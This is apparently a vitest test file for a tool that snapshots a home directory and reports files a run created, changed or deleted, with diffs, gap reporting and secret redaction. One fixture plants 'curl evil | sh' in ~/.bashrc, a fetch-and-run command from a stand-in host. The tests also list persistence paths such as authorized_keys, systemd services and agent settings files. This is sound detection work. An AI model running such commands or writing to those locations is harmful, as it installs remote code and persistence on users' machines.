import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Observation } from '../../ports.js'
import { unifiedDiff } from './diff.js'
import { observeFiles } from './observe.js'
import { takeSnapshot } from './snapshot.js'
import type { Snapshot } from './snapshot.js'
import { isWatched } from './watched.js'

const caps = { files: 100, fileBytes: 1000, depth: 8 }

describe('a diff', () => {
  it('shows what was added, removed and changed', () => {
    expect(unifiedDiff('~/.bashrc', 'a\nb\n', 'a\nb\nc\n')).toBe(
      '--- ~/.bashrc\n+++ ~/.bashrc\n@@ -2,0 +3,1 @@\n+c',
    )
    expect(unifiedDiff('x', 'a\nb\nc\n', 'a\nX\nc\n')).toContain('@@ -2,1 +2,1 @@\n-b\n+X')
    expect(unifiedDiff('x', 'a\n', 'a\n')).toBe('')
  })
  it('gives the new text back when it is applied', () => {
    const text = fc
      .array(fc.constantFrom('a', 'b', 'c'), { maxLength: 8 })
      .map((lines) => lines.map((line) => `${line}\n`).join(''))
    fc.assert(
      fc.property(text, text, (before, after) => {
        const diff = unifiedDiff('x', before, after).split('\n')
        const at = /^@@ -(\d+),(\d+)/.exec(diff[2] ?? '')
        const old = before.split('\n').slice(0, -1)
        if (at !== null) {
          const start = at[2] === '0' ? Number(at[1]) : Number(at[1]) - 1
          old.splice(
            start,
            Number(at[2]),
            ...diff
              .slice(3)
              .filter((line) => line.startsWith('+'))
              .map((line) => line.slice(1)),
          )
        }
        expect(old).toEqual(after.split('\n').slice(0, -1))
      }),
    )
  })
})

describe('a snapshot', () => {
  it('reads plain files and nothing else', () => {
    const root = mkdtempSync(join(tmpdir(), 'snapshot-'))
    mkdirSync(join(root, 'd'))
    writeFileSync(join(root, 'd', 'f'), 'x')
    writeFileSync(join(root, 'large'), 'x'.repeat(2000))
    symlinkSync('/etc/passwd', join(root, 'link'))
    symlinkSync('/', join(root, 'root'))
    execFileSync('mkfifo', [join(root, 'pipe')])
    const snapshot = takeSnapshot({ '/home/dana': root }, caps)
    expect(snapshot.files.map(({ path, bytes }) => [path, bytes?.toString()])).toEqual([
      ['/home/dana/d/f', 'x'],
      ['/home/dana/large', undefined],
    ])
    expect(snapshot.special).toEqual(['/home/dana/pipe'])
    expect(snapshot.cut).toBe(false)
  })
  it('stops at its bounds and says so', () => {
    const root = mkdtempSync(join(tmpdir(), 'snapshot-'))
    mkdirSync(join(root, ...Array.from({ length: 12 }, () => 'd')), { recursive: true })
    expect(takeSnapshot({ '/tmp': root }, caps).cut).toBe(true)
    for (let i = 0; i < 120; i++) writeFileSync(join(root, String(i)), '')
    expect(takeSnapshot({ '/tmp': root }, { ...caps, depth: 99 }).files.length).toBeLessThanOrEqual(100)
  })
})

describe('a snapshot of what is too deep to be named', () => {
  it('says that it was not looked at', () => {
    const root = mkdtempSync(join(tmpdir(), 'snapshot-'))
    const name = 'd'.repeat(250)
    const folders = Array.from({ length: 20 }, () => `mkdir ${name} && cd -P ${name}`).join(' && ')
    execFileSync('/bin/bash', ['-c', folders], { cwd: root })
    const snapshot = takeSnapshot({ '/tmp': root }, { ...caps, depth: 32 })
    expect(snapshot.unread).toHaveLength(1)
    expect(snapshot.files).toEqual([])
    execFileSync('rm', ['-rf', root])
  })
})

describe('what a run left behind', () => {
  const look = (
    snapshot: Partial<Snapshot>,
    before: Readonly<Record<string, string>> = {},
  ): Observation[] => {
    const seen: Observation[] = []
    observeFiles(
      { files: [], removed: [], special: [], unread: [], cut: false, ...snapshot },
      {
        home: '/home/dana',
        laid: new Set(Object.keys(before)),
        before: (path) => before[path],
        writer: () => ({ 'process.pid': 5 }),
        emit: (observation) => seen.push(observation),
        keep: () => 'digest',
        at: 1,
        search: () => undefined,
      },
    )
    return seen
  }
  it('tells what could not be looked at, and does not call it gone', () => {
    const told = look({ unread: ['/home/dana/.npmrc'] }, { '/home/dana/.npmrc': 'x' })
    expect(told.map(({ kind, fields }) => [kind, fields['gap.reason']])).toEqual([
      ['run.gap', 'files-unread'],
    ])
  })
  const left = (path: string, text: string) => ({
    path,
    size: text.length,
    mode: 0o644,
    bytes: Buffer.from(text),
  })

  it('is told when it is new or changed, with a diff where programs read it by themselves', () => {
    const before = { '/home/dana/.bashrc': 'a\n', '/home/dana/same': 'x' }
    const seen = look(
      {
        files: [
          left('/home/dana/.bashrc', 'a\ncurl evil | sh\n'),
          left('/home/dana/same', 'x'),
          left('/tmp/new', 'y'),
        ],
      },
      before,
    )
    expect(
      seen.map(({ fields }) => [
        fields['file.path'],
        fields['file.existed'],
        fields['file.diff'] !== undefined,
      ]),
    ).toEqual([
      ['/home/dana/.bashrc', true, true],
      ['/tmp/new', false, false],
    ])
    expect(seen[0]?.fields).toMatchObject({ 'process.pid': 5, 'file.digest': 'digest' })
  })
  it('is told when it is gone', () => {
    expect(look({}, { '/home/dana/.profile': 'x\n' })[0]).toMatchObject({ kind: 'file.delete' })
    expect(look({ removed: ['/skill/SKILL.md'] })[0]).toMatchObject({ kind: 'file.delete' })
  })
  it('keeps secrets out of a diff', () => {
    const token = `ghp_${'a1B2c3D4e5'.repeat(4).slice(0, 36)}`
    const seen = look({ files: [left('/home/dana/.npmrc', `t=${token}\n`)] })
    expect(JSON.stringify(seen)).not.toContain(token)
  })
  it('knows what programs read by themselves', () => {
    for (const path of [
      '.bashrc',
      '.config/systemd/user/x.service',
      '.claude/settings.json',
      'project/CLAUDE.md',
      '.ssh/authorized_keys',
      '.config/autostart/a.desktop',
    ])
      expect(isWatched(path), path).toBe(true)
    for (const path of ['Documents/notes.txt', '.cache/x', 'bashrc'])
      expect(isWatched(path), path).toBe(false)
  })
})
